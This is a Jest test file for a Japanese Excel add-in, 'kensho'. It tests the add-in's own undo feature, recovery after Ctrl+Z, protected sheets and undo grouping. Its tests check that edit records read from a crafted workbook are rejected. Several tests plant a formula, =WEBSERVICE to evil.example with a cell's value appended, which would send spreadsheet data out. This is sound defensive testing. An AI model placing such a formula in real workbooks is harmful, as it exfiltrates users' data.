// The pane's own 元に戻す on the stateful fake: it restores a cell only while the cell still holds
// what kensho wrote, after Ctrl+Z too (Excel takes cells back but not the custom XML part,
// office-js#6415); a record read from the workbook never writes a formula or a validation rule this
// session did not record; a protected sheet never leaves a phantom step; a group Excel refuses runs
// again ungrouped without recording the step twice.
import { EDIT_RECORD_NAMESPACE, parseEdits } from "../../../src/core/edits";
import { FLAG_RECORD_NAMESPACE } from "../../../src/core/flags";
import { LEGACY_STATE_SHEET } from "../../../src/adapters/excel/recordStore";
import type { CellEdit, MergeEdit } from "../../../src/adapters/excel/workbookHost";
import { FakeExcel } from "../../fakes/fakeExcel";
import { createFakeHostForTests, hostOnFake, type FakeHostOptions } from "../../fakes/fakeHost";
import { ruleTitle } from "../../fakes/excel/rules";
import { verificationGrid } from "../../fakes/sampleGrids";

const S = "1-1";
const at = (address: string) => ({ sheet: S, address });
const status = (address: string, value: string): CellEdit => ({ sheet: S, address, value });
const setup = (opts: FakeHostOptions = {}) => createFakeHostForTests([verificationGrid(S, 10)], opts);

/** The edit record's steps as stored in the workbook. */
function storedSteps(fake: FakeExcel) {
  return fake.xmlParts
    .filter((p) => p.namespaceUri === EDIT_RECORD_NAMESPACE)
    .flatMap((p) => parseEdits(p.xml).doc.steps);
}

describe("元に戻す restores only cells that still hold what kensho wrote", () => {
  test("a cell staff changed since is listed and left alone; the others go back", async () => {
    const { fake, host } = await setup();
    const l4 = fake.value(S, "L4");
    await host.writeValues([
      status("L3", "進捗の遅れ"),
      status("L4", "進捗の遅れ"),
      status("L5", "概ね順調に進捗"),
    ]);
    await fake.userEdit(S, "L5", "順調に進捗（確認中）");
    const outcome = await host.undoLastEdit();
    expect(outcome).toEqual({
      undone: true,
      restored: [at("L3"), at("L4")],
      already: [],
      changed: [at("L5")],
      unproven: [],
    });
    expect([fake.value(S, "L3"), fake.value(S, "L4"), fake.value(S, "L5")]).toEqual([
      null,
      l4,
      "順調に進捗（確認中）",
    ]);
    expect(host.canUndo()).toBe(false);
  });

  test(`${ruleTitle("ctrlZ")}: after Ctrl+Z of 進捗状況を適用 and typing, 元に戻す writes nothing stale`, async () => {
    const { fake, host } = await setup();
    const before = [fake.value(S, "L4"), fake.value(S, "L6")];
    await host.writeValues([status("L4", "進捗の遅れ"), status("L6", "順調に進捗")]);
    // Excel's Ctrl+Z takes the cells back; the edit record keeps the step (#6415).
    await fake.userUndo();
    expect([fake.value(S, "L4"), fake.value(S, "L6")]).toEqual(before);
    expect(storedSteps(fake)).toHaveLength(1);
    await fake.userEdit(S, "L4", "概ね順調に進捗");
    const writesBefore = fake.writeSyncCount;
    const outcome = await host.undoLastEdit();
    expect(outcome.changed).toEqual([at("L4")]);
    expect(outcome.already).toEqual([at("L6")]);
    expect(outcome.restored).toEqual([]);
    expect([fake.value(S, "L4"), fake.value(S, "L6")]).toEqual(["概ね順調に進捗", before[1]]);
    // Only the record changed: the step is gone, no cell was written.
    expect(fake.writeSyncCount - writesBefore).toBe(1);
    expect(storedSteps(fake)).toEqual([]);
  });

  test("after Ctrl+Z of 提出ファイルを取り込む and typing, 元に戻す leaves what staff typed", async () => {
    const { fake, host } = await setup();
    const edits: MergeEdit[] = [
      { sheet: S, address: "I3", value: { kind: "number", value: 4321 } },
      { sheet: S, address: "M4", value: { kind: "text", value: "人手不足のため" } },
    ];
    const before = [fake.value(S, "I3"), fake.value(S, "M4")];
    await host.writeMerge(edits);
    await fake.userUndo();
    await fake.userEdit(S, "I3", 5000);
    const outcome = await host.undoLastEdit();
    expect(outcome).toMatchObject({ changed: [at("I3")], already: [at("M4")], restored: [] });
    expect([fake.value(S, "I3"), fake.value(S, "M4")]).toEqual([5000, before[1]]);
  });

  test("Ctrl+Z, then Ctrl+Y: the cells are kensho's again, and 元に戻す takes them back", async () => {
    const { fake, host } = await setup();
    const before = fake.value(S, "L4");
    await host.writeValues([status("L4", "進捗の遅れ")]);
    await fake.userUndo();
    await fake.userRedo();
    expect(fake.value(S, "L4")).toBe("進捗の遅れ");
    await expect(host.undoLastEdit()).resolves.toMatchObject({ restored: [at("L4")], changed: [] });
    expect(fake.value(S, "L4")).toBe(before);
  });

  test("a drop-down staff replaced is left alone; kensho's own goes back to the cell's validation", async () => {
    const { fake, host } = await setup();
    fake.setValidation(S, "L3", { rule: { list: { inCellDropDown: true, source: "済,未" } } });
    const own = fake.fullValidation(S, "L3");
    await host.addStatusDropdown([at("L3"), at("L4")]);
    fake.setValidation(S, "L4", { rule: { wholeNumber: { formula1: "0", operator: "GreaterThan" } } });
    const outcome = await host.undoLastEdit();
    expect(outcome).toMatchObject({ restored: [at("L3")], changed: [at("L4")] });
    expect(fake.fullValidation(S, "L3")).toEqual(own);
    expect(fake.validation(S, "L4")).toEqual({ wholeNumber: { formula1: "0", operator: "GreaterThan" } });
  });

  test("steps move with rows inserted while the pane is open", async () => {
    const { fake, host } = await setup({ host: { graceMs: 0 } });
    await host.onCellsChanged(() => undefined);
    const before = fake.value(S, "L6");
    await host.writeValues([status("L6", "概ね順調に進捗")]);
    await fake.insertRows(S, 1, 2);
    await expect(host.undoLastEdit()).resolves.toMatchObject({ restored: [at("L8")] });
    expect(fake.value(S, "L8")).toBe(before);
  });

  test("after a reopen text goes back, but a formula kensho overwrote is listed, never written from the record", async () => {
    const { fake, host } = await setup();
    fake.setValue(S, "L5", "済", { formula: '="済"' });
    const l4 = fake.value(S, "L4");
    await host.writeValues([status("L4", "進捗の遅れ"), status("L5", "進捗の遅れ")]);
    fake.reopen();
    const reopened = await hostOnFake(fake);
    const outcome = await reopened.undoLastEdit();
    expect(outcome).toMatchObject({ restored: [at("L4")], unproven: [at("L5")], changed: [] });
    expect(fake.value(S, "L4")).toBe(l4);
    expect(fake.formula(S, "L5")).toBeNull();
    expect(fake.value(S, "L5")).toBe("進捗の遅れ");
  });
});

describe("a record in a workbook is input (issue 21)", () => {
  const WEBSERVICE = '=WEBSERVICE("https://evil.example/?"&A1)';

  /** A returned workbook whose edit record says L4 held a formula before kensho wrote 進捗の遅れ. */
  function crafted(before: unknown, extra: Record<string, unknown> = {}): FakeExcel {
    const fake = new FakeExcel([verificationGrid(S, 10)]);
    fake.setValue(S, "L4", "進捗の遅れ");
    const step = {
      id: "0123456789abcdef01234567",
      action: "status",
      entries: [
        {
          kind: "value",
          sheet: S,
          cell: "L4",
          before,
          after: { type: "text", text: "進捗の遅れ" },
          ...extra,
        },
      ],
    };
    const json = JSON.stringify({ version: 1, steps: [step] })
      .replace(/&/g, "&amp;")
      .replace(/</g, "&lt;");
    fake.addXmlPart(
      `<kenshoEdits xmlns="${EDIT_RECORD_NAMESPACE}">${json}</kenshoEdits>`,
      EDIT_RECORD_NAMESPACE,
    );
    return fake;
  }

  test("a crafted =WEBSERVICE(…) before never reaches a cell", async () => {
    const fake = crafted({ type: "formula", formula: WEBSERVICE });
    const host = await hostOnFake(fake);
    expect(host.canUndo()).toBe(true);
    const outcome = await host.undoLastEdit();
    expect(outcome).toMatchObject({ undone: true, restored: [], unproven: [at("L4")] });
    expect(fake.formula(S, "L4")).toBeNull();
    expect(fake.value(S, "L4")).toBe("進捗の遅れ");
  });

  test.each([
    ["an error value that is a formula", { type: "error", text: WEBSERVICE }],
    ["a text with a field the schema does not know", { type: "text", text: "x", formula: WEBSERVICE }],
    ["a number that is not one", { type: "number", number: "=1+1" }],
  ])("%s fails the schema: the step is dropped, nothing written", async (_, before) => {
    const fake = crafted(before);
    const host = await hostOnFake(fake);
    expect(host.canUndo()).toBe(false);
    await expect(host.undoLastEdit()).resolves.toMatchObject({ undone: false });
    expect(fake.value(S, "L4")).toBe("進捗の遅れ");
    expect(fake.formula(S, "L4")).toBeNull();
  });

  test("a crafted validation rule with a formula is never written", async () => {
    const fake = new FakeExcel([verificationGrid(S, 10)]);
    fake.setValidation(S, "L4", {
      rule: { list: { inCellDropDown: true, source: "順調に進捗,概ね順調に進捗,進捗の遅れ" } },
    });
    const step = {
      id: "fedcba9876543210fedcba98",
      action: "dropdown",
      entries: [
        {
          kind: "validation",
          sheet: S,
          cell: "L4",
          before: {
            type: "Custom",
            rule: { custom: { formula: WEBSERVICE } },
            ignoreBlanks: true,
            prompt: null,
            errorAlert: null,
          },
        },
      ],
    };
    const json = JSON.stringify({ version: 1, steps: [step] })
      .replace(/&/g, "&amp;")
      .replace(/</g, "&lt;");
    fake.addXmlPart(
      `<kenshoEdits xmlns="${EDIT_RECORD_NAMESPACE}">${json}</kenshoEdits>`,
      EDIT_RECORD_NAMESPACE,
    );
    const host = await hostOnFake(fake);
    await expect(host.undoLastEdit()).resolves.toMatchObject({ unproven: [at("L4")] });
    expect(JSON.stringify(fake.validation(S, "L4"))).not.toContain("WEBSERVICE");
  });

  test("an earlier version's flag record with a formula in its undo: the formula is never written", async () => {
    const fake = new FakeExcel([verificationGrid(S, 10)]);
    fake.setValue(S, "L4", "進捗の遅れ");
    const old = {
      version: 1,
      flags: [],
      undo: [
        {
          action: "status",
          entries: [
            { kind: "value", sheet: S, cell: "L4", before: { type: "formula", formula: WEBSERVICE } },
          ],
        },
      ],
    };
    const json = JSON.stringify(old).replace(/&/g, "&amp;").replace(/</g, "&lt;");
    fake.addXmlPart(
      `<kenshoFlagRecord xmlns="${FLAG_RECORD_NAMESPACE}">${json}</kenshoFlagRecord>`,
      FLAG_RECORD_NAMESPACE,
    );
    const host = await hostOnFake(fake);
    expect(host.canUndo()).toBe(true);
    await expect(host.undoLastEdit()).resolves.toMatchObject({ unproven: [at("L4")] });
    expect(fake.formula(S, "L4")).toBeNull();
    expect(host.canUndo()).toBe(false);
  });

  test("the legacy kensho_state rows: a formula is never written; a status word goes back", async () => {
    const fake = new FakeExcel([verificationGrid(S, 10)]);
    fake.addSheet(LEGACY_STATE_SHEET, "VeryHidden");
    const rows = [
      { t: "undo", sheet: S, address: "$L$4", formula: WEBSERVICE },
      { t: "undo", sheet: S, address: "L5", formula: "概ね順調に進捗" },
    ];
    rows.forEach((r, i) =>
      fake.setValue(LEGACY_STATE_SHEET, `A${i + 1}`, JSON.stringify(r), { format: "@" }),
    );
    fake.setValue(S, "L4", "進捗の遅れ");
    fake.setValue(S, "L5", "進捗の遅れ");
    const host = await hostOnFake(fake);
    const outcome = await host.undoLastEdit();
    expect(outcome).toMatchObject({ restored: [at("L5")], unproven: [at("L4")] });
    expect(fake.formula(S, "L4")).toBeNull();
    expect(fake.value(S, "L5")).toBe("概ね順調に進捗");
  });

  test("in the session that recorded it, a formula kensho overwrote does go back", async () => {
    const { fake, host } = await setup();
    fake.setValue(S, "L5", "済", { formula: '="済"' });
    await host.writeValues([status("L5", "進捗の遅れ")]);
    await expect(host.undoLastEdit()).resolves.toMatchObject({ restored: [at("L5")], unproven: [] });
    expect(fake.formula(S, "L5")).toBe('="済"');
  });
});

describe(`${ruleTitle("protection")}: checked before any step is recorded`, () => {
  test("進捗状況を適用 on a protected sheet: refused by name, no step, no cell changed", async () => {
    const { fake, host } = await setup({ protectedSheets: [S] });
    const before = JSON.stringify(fake.snapshot());
    await expect(host.writeValues([status("L4", "進捗の遅れ")])).rejects.toMatchObject({
      code: "sheet-protected",
    });
    expect(host.canUndo()).toBe(false);
    expect(storedSteps(fake)).toEqual([]);
    expect(JSON.stringify(fake.snapshot())).toBe(before);
  });

  test("unlocked cells of a protected sheet take statuses and merges; a locked one refuses the whole edit", async () => {
    const { fake, host } = await setup({ protectedSheets: [S] });
    fake.setLocked(S, "L4:L5", false);
    await host.writeValues([status("L4", "進捗の遅れ"), status("L5", "進捗の遅れ")]);
    expect(fake.value(S, "L5")).toBe("進捗の遅れ");
    await expect(
      host.writeMerge([
        { sheet: S, address: "L4", value: { kind: "text", value: "順調に進捗" } },
        { sheet: S, address: "I4", value: { kind: "number", value: 1 } },
      ]),
    ).rejects.toMatchObject({ code: "sheet-protected" });
    expect(storedSteps(fake)).toHaveLength(1);
    expect(fake.value(S, "L4")).toBe("進捗の遅れ");
  });

  test("drop-downs on a protected sheet are refused whatever the lock; 元に戻す on a sheet protected since keeps its step", async () => {
    const { fake, host } = await setup();
    await host.writeValues([status("L4", "進捗の遅れ")]);
    fake.setProtected(S, true);
    fake.setLocked(S, "L3", false);
    await expect(host.addStatusDropdown([at("L3")])).rejects.toMatchObject({ code: "sheet-protected" });
    await expect(host.undoLastEdit()).rejects.toMatchObject({ code: "sheet-protected" });
    expect(storedSteps(fake)).toHaveLength(1);
    fake.setProtected(S, false);
    await expect(host.undoLastEdit()).resolves.toMatchObject({ restored: [at("L4")] });
  });
});

describe(ruleTitle("undoGroup"), () => {
  test("a group Excel refuses runs again ungrouped: one step, the cells' own befores, and the pane is told", async () => {
    const { fake, host } = await setup({ groupRefuses: ["Range.values"] });
    const before = [fake.value(S, "L4"), fake.value(S, "L6")];
    await host.writeValues([status("L4", "概ね順調に進捗"), status("L6", "概ね順調に進捗")]);
    expect(fake.runs.slice(-2).map((o) => Boolean(o.mergeUndoGroup))).toEqual([true, false]);
    expect(host.takeNotes()).toEqual(["ungrouped-retry"]);
    expect(host.takeNotes()).toEqual([]);
    expect(storedSteps(fake)).toHaveLength(1);
    await expect(host.undoLastEdit()).resolves.toMatchObject({ restored: [at("L4"), at("L6")] });
    expect([fake.value(S, "L4"), fake.value(S, "L6")]).toEqual(before);
  });

  test("集計シートを削除 is never grouped, so Excel never refuses it", async () => {
    const { fake, host } = await setup({ platform: "windows" });
    await host.createSummarySheet({
      name: "集計",
      values: [["集計"], ["a", 1]],
      titleRow: 0,
      headerRows: [],
      totalRows: [],
      chart: {
        title: "t",
        source: { top: 0, left: 0, bottom: 1, right: 1 },
        colors: ["#000000"],
        from: "D1",
        to: "F5",
        barsColumn: 3,
        bars: ["x"],
        barsHeader: "b",
      },
    });
    expect(fake.runs.at(-1)?.mergeUndoGroup).toBe(true);
    const runs = fake.runs.length;
    await expect(host.removeSummarySheet()).resolves.toBe(true);
    // One run, never grouped: not a grouped attempt Excel refuses and a retry.
    expect(fake.runs.slice(runs)).toEqual([{ delayForCellEdit: true }]);
    expect(fake.undoClears).toEqual(["Worksheet.delete"]);
  });
});

describe(ruleTitle("libraryPresence"), () => {
  test("a host that reports 1.18 with an office.js that lacks notes: comments instead, and no read throws", async () => {
    const { fake, host } = await setup({ apiVersion: "1.18", library: { notes: false } });
    expect(host.support).toMatchObject({ notes: false, comments: true, libraryLacks: ["notes"] });
    await host.readSheets();
    await host.writeFlags([{ sheet: S, address: "I3", severity: "error", message: "実績値が空欄です" }]);
    expect(fake.comment(S, "I3")).toContain("実績値が空欄です");
    expect(fake.note(S, "I3")).toBeNull();
  });

  test("a 1.20 host with an office.js that ignores mergeUndoGroup: never asked for, and said", async () => {
    const { fake, host } = await setup({ library: { mergeUndoGroup: false } });
    expect(host.support).toMatchObject({ undo: true, undoGrouping: false, libraryLacks: ["mergeUndoGroup"] });
    await host.writeValues([status("L4", "進捗の遅れ")]);
    expect(fake.runs.some((o) => o.mergeUndoGroup)).toBe(false);
  });
});
